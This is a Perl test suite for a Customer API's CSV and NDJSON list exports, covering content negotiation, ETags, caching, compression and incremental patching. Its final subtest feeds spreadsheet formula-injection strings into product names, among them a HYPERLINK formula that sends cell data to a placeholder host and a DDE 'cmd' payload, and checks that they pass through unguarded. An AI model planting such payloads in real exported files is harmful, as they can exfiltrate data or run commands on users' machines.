#!/usr/bin/perl
# The lists of the Customer API in other formats: what is in them is what is in the JSON, row by row; they are cached, patched, compressed
# and conditional like it; Accept selects them, and nothing else does.
# SPDX-License-Identifier: Apache-2.0
use strict;
use warnings;
use FindBin;
use lib "$FindBin::Bin/lib";
use Encode ();
use IO::Uncompress::Gunzip ();
use JSON::PP ();
use Test::More;
use KissTest;
use KissTest::JSON;
use KissTest::Lists;
use KissTest::Load;

my @LISTS = qw(/products /stock /prices);
my $CSV = 'text/csv; charset=utf-8; header=present';
my %TYPE = (json => 'application/json; charset=utf-8', ndjson => 'application/x-ndjson', csv => $CSV, 'bom.csv' => $CSV);
my @FORMATS = grep { $_ ne 'json' } sort keys %TYPE;
my $seed = $ENV{KISS_TEST_SEED} || 20261129;

my $db = new_database('feeds');
import_sample($db);
my %key = map { $_ => issue_key($_) } qw(ACME01 BEAU02 CIRC03 EMPT05);

# What importers stumble over, in a SKU, and in a text.
my @odd = ('00042', 'A"B', 'A,B', "A\nB", "C\r\nD", "A\rB", "\x{c3}\x{9c}BER", '"', '""', ',', ' A ', '=1+1', 'A\\"');
my $text = "Line 1\nline \"2\"\r\nline 3\rline 4, \x{e2}\x{82}\x{ac} 5\\\" \\, '6'\ttab";
# Line breaks as escapes: the client of the database writes CR LF as LF.
my %ESCAPE = ("\r" => '\r', "\n" => '\n', "'" => "\\'", '\\' => '\\\\');
sub q_ { my ($t) = @_; return "'" . ($t =~ s/(['\\\r\n])/$ESCAPE{$1}/gr) . "'" }
sql($db, join '', map {
    my $sku = q_($_);
    "INSERT INTO product (sku, name, description, barcode) VALUES ($sku, '0012', " . q_($text) . ", '0012345678905');"
        . "INSERT INTO product_image (sku, image_id, file_name, is_secondary) VALUES ($sku, '1', 'https://x.example/a,b.jpg', 1), ($sku, '2', " . q_('b;"c".jpg') . ", 0);"
        . "INSERT INTO product_accessory (sku, accessory_sku) VALUES ($sku, 'A,B'), ($sku, '0001');"
        . "INSERT INTO product_composition (sku, material_code, material_description, composition_percentage) VALUES ($sku, 'C', 'Cotton', 62.5), ($sku, 'E', 'Elastane, fine', 37.5);"
        . "INSERT INTO price (price_list_code, sku, unit_price, moq) VALUES ('UKTRADE', $sku, 0.1, 1), ('UKTRADE', $sku, 0.0900, 10);"
        . "INSERT INTO stock (stock_location, sku, available_qty) VALUES ('UK01', $sku, -2.5);"
} @odd);

my $h = serve_lists(\%key, log_level => 'info kiss:debug', modules => []);
my $whole = serve_lists(\%key, modules => []);

sub empty { my ($s) = @_; unlink glob folder($s) . '/*@*'; return }
sub rows { my ($json) = @_; return $json eq '[]' ? () : split /,\n/, substr $json, 1, -1 }
sub gunzip { my ($data) = @_; my $out; IO::Uncompress::Gunzip::gunzip(\$data => \$out); return $out }

# ---- what a text in another format should be, by that of JSON

my %COLUMNS = (
    '/products' => [qw(SKU Name Description WebsiteDescription ProductCategoryCode WashingInstructions Gender Audience MainColour Barcode
        Photo Theme PackagedLength_in_cm PackagedWidth_in_cm PackagedHeight_in_cm PackagedWeight_in_g CartonLength_in_cm CartonWidth_in_cm
        CartonHeight_in_cm CartonWeight_in_g CartonQty AmazonASIN CountryOfOrigin Status StyleCode CartonBarcode HSCode WhatsIncluded
        ProductCompositionText PrimaryImage AdditionalImages Images Accessories Substitutions Materials Composition CurrencyCode
        PriceExclVAT MOQ OrderMultiple PriceBreaks PriceListCode PriceListName)],
    '/stock' => [qw(SKU StockLocation AvailableQTY NextAvailableETA)],
    '/prices' => [qw(SKU PriceListCode PriceListName CurrencyCode PriceExclVAT MOQ OrderMultiple PriceBreaks)],
);

my $text_of = JSON::PP->new->allow_nonref;

# flat($json): the rows as hashes of texts, each number with its digits, null as ''; arrays of such hashes.
sub flat {
    my ($v) = @_;
    return { map { $_->[0] => flat($_->[1]) } @$v[1 .. $#$v] } if $v->[0] eq 'object';
    return [map { flat($_) } @$v[1 .. $#$v]] if $v->[0] eq 'array';
    return $v->[0] eq 'null' ? '' : $v->[0] eq 'string' ? $text_of->decode("\"$v->[1]\"") : $v->[1];
}
sub breaks { my ($t) = @_; return $t =~ s/\r\n?/\n/gr }
sub escaped { my ($comma, @texts) = @_; return map { s/,/$comma/gr } @texts }

# records($list, $json): a hash of cells for each SKU, in order.
sub records {
    my ($list, $json) = @_;
    my (@order, %of);
    for my $row (@{ flat(parse_json($json)) }) {
        push @order, $row->{SKU} if !$of{ $row->{SKU} };
        push @{ $of{ $row->{SKU} } }, $row;
    }
    return map {
        my @rows = @{ $of{$_} };
        my %r = %{ $rows[0] };
        my @prices = $list eq '/prices' ? @rows : @{ $r{ProductPrices} || [] };
        $r{PriceBreaks} = join ',', map {"$_->{MOQ}:$_->{PriceExclVAT}"} @prices;
        if ($list eq '/products') {
            my @images = map { $_->{FileName} } @{ $r{ProductImages} };
            my @materials = @{ $r{ProductComposition} };
            %r = (%r, %{ $prices[0] }, PriceBreaks => $r{PriceBreaks}, PrimaryImage => $images[0] // '',
                AdditionalImages => join(',', escaped('%2C', @images[1 .. $#images])), Images => join(',', escaped('%2C', @images)),
                Accessories => join(',', escaped('\\,', map { $_->{AccessorySKU} } @{ $r{ProductAccessories} })),
                Substitutions => join(',', escaped('\\,', map { $_->{SubstituteSKU} } @{ $r{ProductSubstitutions} })),
                Materials => join('/', map { $_->{MaterialDescription} } @materials),
                Composition => join(', ', map {"$_->{CompositionPercentage}% " . (escaped('\\,', $_->{MaterialDescription}))[0]} @materials));
        }
        my $sku = $r{SKU} =~ s/\r+\n/\n/gr;       # keeps other carriage returns
        +{ (map { $_ => breaks($r{$_}) } @{ $COLUMNS{$list} }), SKU => $sku };
    } @order;
}
sub cell { my ($t) = @_; return $t =~ /[",\r\n]/ ? '"' . ($t =~ s/"/""/gr) . '"' : $t }
sub csv {
    my ($list, $json) = @_;
    my @columns = @{ $COLUMNS{$list} };
    return join '', map { join(',', @$_) . "\r\n" } [@columns], map { my $r = $_; [map { cell($r->{$_}) } @columns] } records($list, $json);
}

my %expected = (
    ndjson => sub { my ($json) = @_; return join '', map {"$_\n"} rows($json) },
    csv => sub { my ($json, $list) = @_; return csv($list, $json) },
    'bom.csv' => sub { my ($json, $list) = @_; return "\xef\xbb\xbf" . csv($list, $json) },
);

# ---- the lists

# difference($got, $expected): where they begin to differ, or ''.
sub difference {
    my ($got, $expected) = @_;
    return '' if $got eq $expected;
    ($got ^ $expected) =~ /[^\0]/;
    my $at = $-[0] > 60 ? $-[0] - 60 : 0;
    return "at $-[0]: " . substr($got, $at, 120) . ' expected: ' . substr($expected, $at, 120);
}

sub by_accept {
    my ($list, $format, $customer, $res) = @_;
    my $got = ask_list($h, $list, $customer, Accept => $TYPE{$format});
    ok $got->{content} eq $res->{content}, '... by Accept';
    is_deeply { %{ $got->{headers} }{qw(content-type etag vary)} },
        { 'content-type' => $TYPE{$format}, etag => $res->{headers}{etag}, vary => 'Authorization,Accept,Accept-Encoding' }, '... its headers';
    $got = ask_list($h, $list, $customer, Accept => $TYPE{$format}, 'If-None-Match' => $res->{headers}{etag});
    is "$got->{status} $got->{headers}{vary}", '304 Authorization,Accept,Accept-Encoding', '... its 304';
    return;
}

for my $list (@LISTS) {
    my %tag;
    for my $customer (qw(ACME01 BEAU02 CIRC03 EMPT05)) {
        my $json = ask_list($h, $list, $customer);
        is $json->{headers}{'content-type'}, $TYPE{json}, "$list of $customer: JSON";
        $tag{ $json->{headers}{etag} }++;
        for my $format (@FORMATS) {
            my $name = "$list.$format of $customer";
            my $res = ask_list($h, "$list.$format", $customer);
            is "$res->{status} $res->{headers}{'content-type'}", "200 $TYPE{$format}", $name;
            is $res->{headers}{'content-length'}, length($res->{content} // ''), '... with its length';
            is $res->{headers}{'cache-control'}, 'private, no-cache', '... private';
            is $res->{headers}{vary}, 'Authorization,Accept-Encoding', '... Vary';
            is difference($res->{content}, $expected{$format}->($json->{content}, $list)), '', '... the rows of the JSON';
            like $res->{headers}{etag}, qr/\A"[\w-]{22}"\z/, '... a strong ETag';
            $tag{ $res->{headers}{etag} }++;
            my $again = ask_list($h, "$list.$format", $customer);
            is fate($h, $again), 'hit', '... cached';
            ok $again->{content} eq $res->{content}, '... the same bytes';
            my $known = ask_list($h, "$list.$format", $customer, 'If-None-Match' => $res->{headers}{etag});
            is "$known->{status} $known->{headers}{etag}", "304 $res->{headers}{etag}", '... 304';
            is ask_list($h, "$list.$format", $customer, 'If-None-Match' => $json->{headers}{etag})->{status}, 200, '... not for the tag of the JSON';
            is ask_list($h, $list, $customer, 'If-None-Match' => $res->{headers}{etag})->{status}, 200, '... nor the JSON for this one';
            my $gzip = ask_list($h, "$list.$format", $customer, 'Accept-Encoding' => 'gzip');
            is $gzip->{headers}{'content-encoding'}, 'gzip', '... compressed';
            like $gzip->{headers}{etag}, qr/\A"[\w-]{22}-gzip[0-9a-f]{8}"\z/, '... with a tag of its own';
            ok gunzip($gzip->{content}) eq $res->{content}, '... the same content';
            by_accept($list, $format, $customer, $res) if $format ne 'bom.csv';
            my $head = $h->request('HEAD', "$list.$format", Authorization => $h->{bearer}{$customer});
            # httpd leaves out the length where it is 0.
            is "$head->{status} " . ($head->{headers}{'content-length'} // 0) . " $head->{headers}{etag}",
                '200 ' . length($res->{content}) . " $res->{headers}{etag}", '... HEAD';
            next if length $res->{content} < 20;
            my $range = ask_list($h, "$list.$format", $customer, Range => 'bytes=5-14', 'If-Range' => $res->{headers}{etag});
            is "$range->{status} $range->{content}", '206 ' . substr($res->{content}, 5, 10), '... a range';
            $range = ask_list($h, "$list.$format", $customer, Range => 'bytes=5-14', 'If-Range' => $json->{headers}{etag});
            is $range->{status}, 200, '... of this format only';
        }
    }
    ok !(grep { $_ > 1 } values %tag), "$list: each format and customer has an ETag of its own" or diag explain \%tag;
    is ask_list($h, $_, 'ACME01')->{content}, '{"error":"Not found."}', "$_: no such path"
        for "$list.xml", "$list.json", "$list.csv.gz", "$list.bom", "$list.bom.ndjson", "$list.NDJSON", "$list.", "$list.ndjson/", "$list/.csv";
    is $h->request('POST', "$list.ndjson", Authorization => $h->{bearer}{ACME01})->{status}, 405, "$list.ndjson: GET only";
    is $h->get("$list.ndjson")->{status}, 401, "$list.ndjson: with a token only";
}

# ---- parsers that people use

subtest 'parsers' => sub {
    my $dir = tempdir_here();
    my %parser = (
        'Python csv' => ['python3', '-c', 'import csv, json, sys; json.dump(list(csv.reader(open(sys.argv[1], newline="", encoding="utf-8"), strict=True)), sys.stdout)'],
        'PHP fgetcsv' => ['php', '-r', '$f = fopen($argv[1], "r"); $all = []; while (($r = fgetcsv($f, null, ",", "\"", "")) !== false) { $all[] = $r; } echo json_encode($all);'],
    );
    for my $list (@LISTS) {
        my $csv = ask_list($h, "$list.csv", 'ACME01')->{content};
        my @want = map { my $r = $_; [map { Encode::decode('UTF-8', $r->{$_}) } @{ $COLUMNS{$list} }] } records($list, ask_list($h, $list, 'ACME01')->{content});
        unlike $csv =~ s/\r\n//gr =~ s/"A\rB"//gr, qr/\r/, "$list.csv: CR LF ends records only";
        is scalar(() = $csv =~ /\r\n/g), 1 + @want, '... and each of them';
        spew("$dir/list.csv", $csv);
        for my $name (sort keys %parser) {
          SKIP: {
                my ($status, $out) = run(@{ $parser{$name} }, "$dir/list.csv");
                skip "no $name: $out", 1 if $status;
                is_deeply(JSON::PP->new->utf8->decode($out), [$COLUMNS{$list}, @want], "$list.csv: read by $name");
            }
        }
    }
    my ($row) = grep { $_->{SKU} eq '00042' } records('/products', ask_list($h, '/products', 'ACME01')->{content});
    is_deeply { %$row{qw(SKU Name Barcode PrimaryImage Images Accessories Composition Materials PriceBreaks PriceExclVAT)} }, {
        SKU => '00042', Name => '0012', Barcode => '0012345678905', PrimaryImage => 'b;"c".jpg', Images => 'b;"c".jpg,https://x.example/a%2Cb.jpg',
        Accessories => '0001,A\\,B', Composition => '62.5% Cotton, 37.5% Elastane\\, fine', Materials => 'Cotton/Elastane, fine',
        PriceBreaks => '1:0.1000,10:0.0900', PriceExclVAT => '0.1000' }, 'a product as people expect it';
};

# ---- Accept

subtest 'Accept' => sub {
    for my $case (
        ['application/x-ndjson', 'ndjson'], ['APPLICATION/X-NDJSON', 'ndjson'], ['application/x-ndjson;q=0.001', 'ndjson'],
        ['application/json, application/x-ndjson', 'json'], ['application/x-ndjson, application/json', 'json'],
        ['application/json;q=0.9, application/x-ndjson', 'ndjson'], ['application/json;q=0.5 , application/x-ndjson ; q=0.50', 'json'],
        ['application/x-ndjson;q=0.9, */*;q=0.8', 'ndjson'], ['application/x-ndjson;q=0.8, */*;q=0.9', 'json'],
        ['application/x-ndjson, */*', 'json'], ['application/x-ndjson, application/*;q=0.1', 'ndjson'],
        ['application/x-ndjson;q=0.2, application/*;q=0.1, */*', 'ndjson'],
        ['application/x-ndjson;q=0', 'json'], ['application/x-ndjson;q=0.0, */*;q=0', 'json'], ['application/x-ndjson;q=2', 'json'],
        ['application/x-ndjson;q=x', 'json'], ['application/x-ndjson;q=', 'json'], ['application/x-ndjson;q=0.1234', 'json'],
        ['application/x-ndjson;charset=utf-8', 'json'], ['application/x-ndjson;q=0.5;ext="a,b"', 'ndjson'],
        ['text/plain;x="application/x-ndjson, y"', 'json'], ['text/plain;x="\\", application/x-ndjson', 'json'],
        ['*/*', 'json'], ['application/*', 'json'], ['text/*', 'json'], ['application/json;q=0.5, */*', 'json'], ['', 'json'], [',', 'json'],
        [', ,application/x-ndjson,,', 'ndjson'], ['application/x-ndjson x', 'json'], ['application/x-ndjsonx', 'json'], ['application', 'json'],
        ['/', 'json'], [';', 'json'], ['image/png', 'json'], ['text/html,application/xhtml+xml,application/xml;q=0.9,image/webp,*/*;q=0.8', 'json'],
        ['application/json, text/plain, */*', 'json'], ['application/json;charset=utf-8, application/x-ndjson;q=0.9', 'json'],
        ['text/csv', 'csv'], ['text/csv;charset=UTF-8', 'csv'], ['text/csv; header=present; charset="utf-8"', 'csv'], ['text/csv;header=absent', 'json'],
        ['text/csv, application/x-ndjson;q=0.9', 'csv'], ['text/csv;q=0.8, application/x-ndjson;q=0.9', 'ndjson'], ['text/*, application/x-ndjson;q=0.1', 'ndjson'],
        ['text/csv;header=absent;q=1, text/csv;q=0.3, application/json;q=0.2', 'csv'], ['text/csv;header=present;q=0.1, text/csv, application/json;q=0.2', 'json'],
        ['application/json;v=2, application/x-ndjson;q=0.9', 'ndjson'],
    ) {
        my ($accept, $format) = @$case;
        my $res = ask_list($h, '/stock', 'ACME01', Accept => $accept);
        is "$res->{status} $res->{headers}{'content-type'}", "200 $TYPE{$format}", "Accept: $accept";
    }
    my $res = ask_list($h, '/stock', 'ACME01', Accept => 'application/json');
    is $res->{headers}{vary}, 'Authorization,Accept,Accept-Encoding', 'Vary of the JSON';
    is ask_list($h, '/stock.ndjson', 'ACME01', Accept => 'application/json')->{headers}{'content-type'}, $TYPE{ndjson}, 'a suffix wins';
    is ask_list($h, '/nothing', 'ACME01', Accept => 'application/x-ndjson')->{headers}{'content-type'}, $TYPE{json}, 'errors are JSON';
};

# ---- changes

# same($path, $customer): what became of it; it is compared with what is read whole.
sub same {
    my ($path, $customer, @more) = @_;
    empty($whole);
    my ($got, $want) = map { ask_list($_, $path, $customer, @more) } $h, $whole;
    ok $got->{status} == 200 && $got->{content} eq $want->{content} && $got->{headers}{etag} eq $want->{headers}{etag},
        "$path of $customer is what it would be if it was read whole" or diag "$got->{status} $want->{status}";
    return fate($h, $got);
}

subtest 'changes' => sub {
    note "seed $seed";
    srand $seed;
    my @skus = grep { !/\r\n/ }
        (map { $_->[0] } sql($db, "SELECT p.sku FROM price p JOIN product t ON t.sku = p.sku WHERE price_list_code = 'UKTRADE' AND NOT is_obsolete")), @odd;
    my $sku = sub { return q_($skus[rand @skus]) };
    my @changes = (
        sub { 'UPDATE product SET name = CONCAT(LEFT(name, 20), ' . int(rand 1000) . ') WHERE sku = ' . $sku->() },
        sub { 'UPDATE product SET description = ' . q_(('', $text, "\r\n", "\n", '"', 'x' x 5000)[rand 6]) . ' WHERE sku = ' . $sku->() },
        sub { "UPDATE product SET status = IF(status = 'Obsolete', 'Live', 'Obsolete') WHERE sku = " . $sku->() },
        sub { "UPDATE price SET unit_price = unit_price + 1 WHERE price_list_code = 'UKTRADE' AND sku = " . $sku->() },
        sub { "REPLACE INTO price (price_list_code, sku, unit_price, moq) VALUES ('UKTRADE', " . $sku->() . ', 2, ' . (1, 5, 100)[rand 3] . ')' },
        sub { "DELETE FROM price WHERE price_list_code = 'UKTRADE' AND sku = " . $sku->() . ' LIMIT 1' },
        sub { "UPDATE stock SET available_qty = available_qty + 1 WHERE stock_location = 'UK01' AND sku = " . $sku->() },
        sub { "DELETE FROM stock WHERE stock_location = 'UK01' AND sku = " . $sku->() },
        sub { "REPLACE INTO product_image (sku, image_id, file_name, is_secondary) VALUES (" . $sku->() . ", '7', 'i,7.jpg', 1)" },
    );
    my @paths = map { my $l = $_; map {"$l.$_"} @FORMATS } @LISTS;
    same($_, 'ACME01') for @paths;
    my %fates;
    for my $round (1 .. 12) {
        sql($db, join '; ', map { $changes[rand @changes]->() } 1 .. 1 + rand 4);
        $fates{$_}{ same($_, 'ACME01') }++ for @paths;
    }
    for my $path (@paths) {
        is join(' ', grep { !/\A(?:hit|patched)\z/ } keys %{ $fates{$path} }), '', "$path was patched, or unchanged";
        cmp_ok $fates{$path}{patched} // 0, '>', 0, '... and patched at all';
    }
    # What is above may have removed some of them from a list, or all of it.
    sql($db, join '', map {
        my $s = q_($_);
        "UPDATE product SET status = 'Live' WHERE sku = $s; INSERT IGNORE INTO price (price_list_code, sku, unit_price, moq) VALUES ('UKTRADE', $s, 2, 1);"
            . "INSERT IGNORE INTO stock (stock_location, sku, available_qty) VALUES ('UK01', $s, 1);"
    } @odd);
    same($_, 'ACME01') for @paths;
    for my $sku (@odd) {
        sql($db, "UPDATE product SET name = CONCAT(LEFT(name, 20), ' changed') WHERE sku = " . q_($sku) . ";"
            . "UPDATE price SET unit_price = unit_price + 1 WHERE price_list_code = 'UKTRADE' AND sku = " . q_($sku) . ";"
            . "UPDATE stock SET available_qty = available_qty + 1 WHERE stock_location = 'UK01' AND sku = " . q_($sku));
        # Where a line break is written as another one, the row of the SKU cannot be found: a list is read whole.
        my @want = map { /csv/ && $sku =~ /\r\n/ ? 'built' : 'patched' } @paths;
        is join(' ', map { same($_, 'ACME01') } @paths), join(' ', @want), 'a change of ' . $sku =~ s/([\r\n])/$1 eq "\r" ? '\\r' : '\\n'/ger;
    }
    for my $path (@paths) {
        my $before = ask_list($h, $path, 'ACME01', 'Accept-Encoding' => 'gzip');
        sql($db, "UPDATE price SET unit_price = unit_price + 1 WHERE price_list_code = 'UKTRADE' AND sku = '00042';"
            . "UPDATE stock SET available_qty = available_qty + 1 WHERE sku = '00042'");
        my $res = ask_list($h, $path, 'ACME01', 'If-None-Match' => $before->{headers}{etag}, 'A-IM' => 'sku-delta', 'Accept-Encoding' => 'gzip');
        is "$res->{status} " . fate($h, $res), '200 patched', "$path: a change: the whole list, A-IM is ignored";
        ok gunzip($res->{content}) eq ask_list($h, $path, 'ACME01')->{content}, '... compressed';
        is same($path, 'ACME01', 'Accept-Encoding' => 'gzip'), 'hit', '... the same bytes';
    }
};

subtest 'built in advance' => sub {
    my $warm = serve_lists(\%key, config => "KissWarm 10 100ms\n", modules => []);
    my @paths = map {"/stock.$_"} @FORMATS;
    ask_list($warm, $_, 'ACME01') for @paths;
    my $before = snapshots($warm);
    sql($db, "UPDATE stock SET available_qty = available_qty + 1 WHERE sku = '00042'");
    ok wait_until(60, sub { snapshots($warm) == $before + @paths }), 'after a change each format is built';
    is fate($warm, ask_list($warm, $_, 'ACME01')), 'hit', "$_ is cached" for @paths;
    $warm->log_ok;
};

# Decided in doc/feeds.md: programs read these files, and a price of -1 or a name that begins with + is data.
subtest 'cells that a spreadsheet would run' => sub {
    for my $text ('=1+1', '=HYPERLINK("http://x.example/?"&A1,"y")', '+1', '-1', '@SUM(A1)', "\t=1", '|x', "=cmd|'/C x'!A0", '"=1"') {
        sql($db, 'UPDATE product SET name = ' . q_($text) . " WHERE sku = '00042'");
        my $json = ask_list($h, '/products', 'ACME01')->{content};
        like $json, qr/"SKU":"00042","Name":"\Q@{[$text =~ s{(["\\])}{\\$1}gr =~ s{\t}{\\t}gr]}\E"/, "$text: as it is in JSON";
        for my $format (@FORMATS) {
            is difference(ask_list($h, "/products.$format", 'ACME01')->{content}, $expected{$format}->($json, '/products')), '', "... and in $format, neither guarded nor cut";
        }
    }
};

$_->log_ok for $h, $whole;
done_testing;
